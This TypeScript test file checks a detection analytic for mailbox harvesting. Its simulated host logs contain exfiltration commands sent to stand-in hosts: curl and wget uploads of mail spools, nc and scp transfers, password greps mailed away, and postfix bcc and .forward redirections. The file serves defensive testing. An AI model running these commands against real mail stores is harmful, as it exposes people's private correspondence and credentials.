import assert from 'node:assert/strict';
import { test } from 'node:test';
import { type Delivered, HOUR, HostLog, MINUTE } from '../an0656-phishing-attachment-executed/host-log.test-support.ts';
import {
  factorsOf,
  firesAt,
  inOrder,
  linksHold,
  recording,
  scanFolder,
  scanLog,
  storyOf,
  strengthsOf,
  valuesOf,
} from '../an0656-phishing-attachment-executed/stories.test-support.ts';

const OUT = '203.0.113.66';
const validated = { settings: { ValidatedHosts: ['ws1'] } };

/** A mail host on which reads, writes and connections are recorded, with a message for the clerk and one for the buyer. */
function mailHost(): { log: HostLog; mine: Delivered; other: Delivered } {
  const log = new HostLog();
  log.shell('ops').run('/usr/bin/vim notes.txt').write('/home/ops/notes.txt');
  log.service('/usr/sbin/chronyd').connect('198.51.100.1', 123);
  const mine = log.deliver();
  const other = log.deliver({ to: 'buyer' });
  log.wait(MINUTE);
  return { log, mine, other };
}

test('recorded: a spool copied into a hidden place and sent with scp', async () => {
  const truth = recording('an1310-mail-store-harvested/fires.spool-staged-scp');
  const alert = firesAt((await scanFolder(truth.folder)).alerts, 'AN1310', 'medium');
  linksHold(alert);
  inOrder(alert, [
    ['store.read', truth.pid('copy'), '/var/mail/clerk'],
    ['file.written', truth.pid('copy'), '/.cache/.ix/'],
    ['process.started', 'scp', '/.cache/.ix/'],
    ['network.connected', truth.pid('connect'), truth.path('connect')],
  ]);
  assert.equal(alert.severity, 'medium', 'capped: the host is not validated');
  assert.ok(factorsOf(alert).includes('staged in a hidden place'));
  assert.deepEqual(valuesOf(alert, 'host'), [truth.host]);
  assert.deepEqual(valuesOf(alert, 'user'), [truth.user]);
  assert.deepEqual(valuesOf(alert, 'mailbox'), ['clerk']);
  assert.ok(valuesOf(alert, 'address').includes(truth.path('connect')));
});

test('recorded: a Maildir packed by tar and uploaded by curl; high once the host is validated', async () => {
  const truth = recording('an1310-mail-store-harvested/fires.tar-maildir-curl');
  const alert = firesAt((await scanFolder(truth.folder)).alerts, 'AN1310', 'medium');
  linksHold(alert);
  inOrder(alert, [
    ['store.read', truth.pid('read'), '/home/buyer/Maildir/new/'],
    ['file.written', truth.path('tidy')],
    ['file.opened', truth.pid('transfer'), truth.path('tidy')],
    ['network.connected', truth.pid('connect'), truth.path('connect')],
  ]);
  assert.ok(strengthsOf(alert, 'content').includes('observed'));
  assert.ok(valuesOf(alert, 'file').includes(truth.path('tidy')));
  const held = alert.factors.find(factor => factor.name === 'host not validated');
  assert.equal(
    held?.evidence,
    `high, held at medium at most: analytics.AN1310.ValidatedHosts does not name ${truth.host}`,
  );
  assert.deepEqual(held?.tunable, { name: 'ValidatedHosts', met: truth.host, limit: 'no host' });
  const validates = alert.wouldChange.find(change => change.setting === 'ValidatedHosts');
  assert.match(validates?.what ?? '', /^analytics\.AN1310\.ValidatedHosts named \S+ /);
  assert.match(validates?.why ?? '', /a test mailbox on \S+, see it told by `watchpost scan`/);
  const later = await scanFolder(truth.folder, { ValidatedHosts: [truth.host] });
  const high = firesAt(later.alerts, 'AN1310', 'high');
  assert.equal(high.score, alert.score);
  assert.ok(high.wouldChange.every(change => change.setting !== 'ValidatedHosts'));
});

test('a store that only WatchedMailDirs names: the alert says which entry', async () => {
  const { log } = mailHost();
  const shell = log.shell('clerk');
  shell
    .run('/usr/bin/curl -T /srv/archive/old.mbx https://x.example.net')
    .read('/srv/archive/old.mbx')
    .connect(OUT, 443);
  const settings = { WatchedMailDirs: ['~/mail', '/srv/archive'] };
  const alert = storyOf(await scanLog(log, { settings }), 'AN1310');
  assert.deepEqual(alert.factors.find(factor => factor.name === 'mail store read')?.tunable, {
    name: 'WatchedMailDirs',
    met: '/srv/archive',
    limit: '/srv/archive',
  });
  assert.deepEqual(
    (await scanLog(log)).filter(each => each.analytic === 'AN1310'),
    [],
  );
});

test('recorded: a script walks the store and posts it', async () => {
  const truth = recording('an1310-mail-store-harvested/fires.python-walks-store');
  const alert = firesAt((await scanFolder(truth.folder)).alerts, 'AN1310', 'medium');
  linksHold(alert);
  inOrder(alert, [
    ['store.read', truth.pid('read'), truth.path('read')],
    ['network.connected', truth.pid('post'), truth.path('post')],
  ]);
  assert.ok(alert.links.every(link => link.strength === 'observed'));
  firesAt((await scanFolder(truth.folder, { ValidatedHosts: [truth.host] })).alerts, 'AN1310', 'high');
});

test('recorded: a shell alone, by its own reads and its own socket', async () => {
  const truth = recording('an1310-mail-store-harvested/fires.shell-loop-devtcp');
  const alert = firesAt((await scanFolder(truth.folder)).alerts, 'AN1310', 'medium');
  inOrder(alert, [['store.read', truth.pid('read')]]);
  inOrder(alert, [['network.connected', truth.pid('connect'), truth.path('connect')]]);
});

test('recorded: a redirection is written, and mail of that box leaves', async () => {
  const truth = recording('an1310-mail-store-harvested/fires.forward-added');
  const alert = firesAt((await scanFolder(truth.folder)).alerts, 'AN1310', 'medium');
  linksHold(alert);
  inOrder(alert, [
    ['redirect.written', truth.pid('forward'), truth.path('forward')],
    ['mail.delivered', 'mail for intern leaves'],
  ]);
  assert.deepEqual(strengthsOf(alert, 'redirection'), ['inferred']);
  assert.deepEqual(valuesOf(alert, 'mailbox'), ['intern']);
  assert.equal(valuesOf(alert, 'recipient').length, 1);
  assert.ok(alert.missing.some(text => text.includes('read the file')));
});

test('cp into a hidden place, half an hour, then scp', async () => {
  const { log } = mailHost();
  const shell = log.shell('root');
  shell.run('/bin/cp /var/mail/clerk /tmp/.cache/a').read('/var/mail/clerk').write('/tmp/.cache/a');
  log.wait(30 * MINUTE);
  const scp = shell.run(`/usr/bin/scp /tmp/.cache/a x@${OUT}:`).read('/tmp/.cache/a');
  scp.run(`/usr/bin/ssh x@${OUT} scp -t .`).connect(OUT, 22);
  const alert = firesAt(await scanLog(log), 'AN1310', 'medium');
  linksHold(alert);
  inOrder(alert, [
    ['store.read', '/var/mail/clerk'],
    ['file.written', '/tmp/.cache/a'],
    ['file.opened', '/usr/bin/scp', '/tmp/.cache/a'],
    ['network.connected', `${OUT}:22`],
  ]);
  assert.ok(factorsOf(alert).includes('staged in a hidden place'));
  assert.ok(factorsOf(alert).includes('mail of somebody else'));
});

test('wget --post-file of a spool, which connects before it reads', async () => {
  const { log } = mailHost();
  const wget = log.shell('clerk').run(`/usr/bin/wget --post-file=/var/mail/clerk http://${OUT}/u`);
  wget.connect(OUT, 80).read('/var/mail/clerk');
  assert.equal(storyOf(await scanLog(log), 'AN1310').severity, 'medium');
  const alert = firesAt(await scanLog(log, validated), 'AN1310', 'high');
  assert.ok(valuesOf(alert, 'address').includes(`${OUT}:80`));
});

test("doveadm fetches other people's mail into a pipeline; doveadm backup into a folder that is packed and sent", async () => {
  const piped = mailHost();
  const [doveadm, curl] = piped.log
    .shell('root')
    .pipeline('/usr/bin/doveadm fetch -A text all', `/usr/bin/curl -T - http://${OUT}/u`);
  doveadm?.read(piped.mine.path).read(piped.other.path);
  curl?.connect(OUT, 80);
  const alert = firesAt(await scanLog(piped.log), 'AN1310', 'medium');
  for (const owner of ['buyer', 'clerk']) assert.ok(valuesOf(alert, 'mailbox').includes(owner), owner);
  const folder = mailHost();
  const shell = folder.log.shell('root');
  const backup = shell.run('/usr/bin/doveadm backup -u buyer maildir:/var/tmp/b').read(folder.other.path);
  backup.write('/var/tmp/b/new/1772442000.M1.ws1');
  folder.log.wait(MINUTE);
  const tar = shell.run('/usr/bin/tar czf /var/tmp/b.tgz /var/tmp/b').write('/var/tmp/b.tgz');
  tar.read('/var/tmp/b/new/1772442000.M1.ws1');
  folder.log.wait(MINUTE);
  shell.run(`/usr/bin/curl -T /var/tmp/b.tgz http://${OUT}/u`).connect(OUT, 80).read('/var/tmp/b.tgz');
  firesAt(await scanLog(folder.log), 'AN1310', 'medium');
});

test('pipelines: find and openssl, notmuch and curl, a foreign spool and nc, rsync with its ssh', async () => {
  const find = mailHost();
  const [walker, , tls] = find.log
    .shell('clerk')
    .pipeline('/usr/bin/find Maildir -exec cat {} ;', '/usr/bin/gzip', `/usr/bin/openssl s_client -connect ${OUT}:443`);
  walker?.run('/bin/cat x').read(find.mine.path);
  tls?.connect(OUT, 443);
  const notmuch = mailHost();
  const [show, curl] = notmuch.log
    .shell('clerk')
    .pipeline('/usr/bin/notmuch show --format=mbox *', `/usr/bin/curl -T - http://${OUT}/u`);
  show?.read(notmuch.mine.path);
  curl?.connect(OUT, 80);
  const spool = mailHost();
  const [cat, nc] = spool.log.shell('backup').pipeline('/bin/cat /var/mail/buyer', `/usr/bin/nc ${OUT} 9999`);
  cat?.read('/var/mail/buyer');
  nc?.connect(OUT, 9999);
  const copy = mailHost();
  const rsync = copy.log.shell('clerk').run(`/usr/bin/rsync -a Maildir x@${OUT}:m`);
  rsync.run(`/usr/bin/ssh ${OUT} rsync --server`).connect(OUT, 22);
  rsync.read(copy.mine.path);
  for (const { log } of [find, notmuch, spool, copy]) {
    const alert = firesAt(await scanLog(log), 'AN1310', 'medium');
    assert.ok(valuesOf(alert, 'address').some(address => address.startsWith(OUT)));
  }
});

test("a client's store sent by rclone, and one copied out first", async () => {
  const direct = mailHost();
  const inbox = '/home/clerk/.thunderbird/x.default/ImapMail/imap.example.org/INBOX';
  direct.log.shell('clerk').run('/usr/bin/rclone copy .thunderbird r:').read(inbox).connect(OUT, 443);
  firesAt(await scanLog(direct.log, validated), 'AN1310', 'high');
  const staged = mailHost();
  const shell = staged.log.shell('clerk');
  const from = '/home/clerk/.local/share/evolution/mail/local/cur/1772442000.1.ws1';
  shell.run('/bin/cp -r .local/share/evolution/mail /tmp/e').read(from).write('/tmp/e/1772442000.1.ws1');
  staged.log.wait(HOUR);
  shell.run('/usr/bin/rclone copy /tmp/e r:').read('/tmp/e/1772442000.1.ws1').connect(OUT, 443);
  inOrder(firesAt(await scanLog(staged.log), 'AN1310', 'medium'), [
    ['store.read', '/evolution/mail/'],
    ['file.written', '/tmp/e/'],
    ['network.connected', `${OUT}:443`],
  ]);
});

test('words searched for, the result mailed away', async () => {
  const { log, mine } = mailHost();
  const shell = log.shell('clerk');
  shell.run('/bin/grep -ri password Maildir').write('/tmp/r').read(mine.path);
  log.wait(MINUTE);
  const mail = shell.fork().read('/tmp/r').exec('/usr/bin/mail -s x drop@example.net');
  mail.run('/usr/sbin/sendmail -i drop@example.net').run('/usr/sbin/postdrop -r');
  log.submitted('clerk', 'drop@example.net', 9000);
  const alert = firesAt(await scanLog(log), 'AN1310', 'medium');
  assert.ok(valuesOf(alert, 'address').includes('drop@example.net'));
});

test('twenty messages an hour for days are one story', async () => {
  const { log } = mailHost();
  for (let hour = 0; hour < 12; hour++) {
    const script = log.cron('clerk', 'python3 .cache/s.py').run('/usr/bin/python3 .cache/s.py').read('.cache/s.py');
    script.connect(OUT, 443);
    for (let i = 0; i < 20; i++) script.read(`/home/clerk/Maildir/cur/${1772400000 + hour * 100 + i}.M1.ws1:2,S`);
    log.wait(6 * HOUR);
  }
  const alerts = (await scanLog(log, validated)).filter(alert => alert.analytic === 'AN1310');
  assert.deepEqual(
    alerts.map(alert => alert.severity),
    ['high'],
  );
});

test('a redirection alone is informational, whoever writes it; mail that leaves by it makes it medium', async () => {
  const { log } = mailHost();
  log.shell('root').run('/usr/sbin/postconf -e always_bcc=x@example.net').write('/etc/postfix/main.cf');
  log.shell('clerk').run('/usr/bin/vim .forward').write('/home/clerk/.forward');
  const before = await scanLog(log);
  assert.deepEqual(
    before.map(alert => alert.severity),
    ['informational', 'informational'],
  );
  log.wait(HOUR);
  const queueId = log.forwarded('clerk@example.org', 'x@example.net');
  const alert = (await scanLog(log)).find(each => valuesOf(each, 'file').includes('/home/clerk/.forward'));
  assert.ok(alert);
  assert.equal(alert.severity, 'medium');
  inOrder(alert, [
    ['redirect.written', '/home/clerk/.forward'],
    ['mail.delivered', queueId, 'x@example.net'],
  ]);
});

test('where only executions are recorded, arguments carry the story, every link says so, and it stays low', async () => {
  const ways = [
    ['/usr/bin/tar czf /tmp/m.tgz /home/clerk/Maildir', `/usr/bin/curl -T /tmp/m.tgz http://${OUT}/u`],
    ['/usr/bin/tar czf /tmp/m.tgz Maildir', `/usr/bin/curl -T /tmp/m.tgz http://${OUT}/u`],
    ['/bin/cp /var/mail/clerk /tmp/.a', `/usr/bin/scp /tmp/.a x@${OUT}:`],
    ['/bin/true', `/usr/bin/wget --post-file=/var/mail/clerk http://${OUT}/u`],
  ];
  for (const commands of ways) {
    const log = new HostLog({ files: false, network: false });
    const shell = log.shell('clerk');
    for (const command of commands) {
      shell.run(command);
      log.wait(MINUTE);
    }
    const alert = firesAt(await scanLog(log), 'AN1310', 'low');
    assert.ok(
      alert.links.every(link => link.strength !== 'observed'),
      commands.join(' && '),
    );
    for (const gap of ['reads of mail stores', 'file creation', 'no connections'])
      assert.ok(
        alert.missing.some(text => text.includes(gap)),
        gap,
      );
  }
});

test("a borrowed name is no excuse: restic in a home, a one-mailbox job of root's that is called backup", async () => {
  const restic = mailHost();
  const home = restic.log.shell('clerk').run('/home/clerk/bin/restic -r rest:http://x backup Maildir');
  home.read(restic.mine.path).connect(OUT, 443);
  const job = mailHost();
  const script = job.log.cron('root', '/usr/local/bin/backup').run('/usr/local/bin/backup', { by: '/bin/sh' });
  script.run('/usr/bin/tar czf /srv/b.tgz /home/clerk/Maildir').write('/srv/b.tgz').read(job.mine.path);
  job.log.wait(10_000);
  script.run(`/usr/bin/curl -T /srv/b.tgz http://${OUT}`).connect(OUT, 80).read('/srv/b.tgz');
  for (const { log } of [restic, job]) firesAt(await scanLog(log), 'AN1310', 'medium');
});
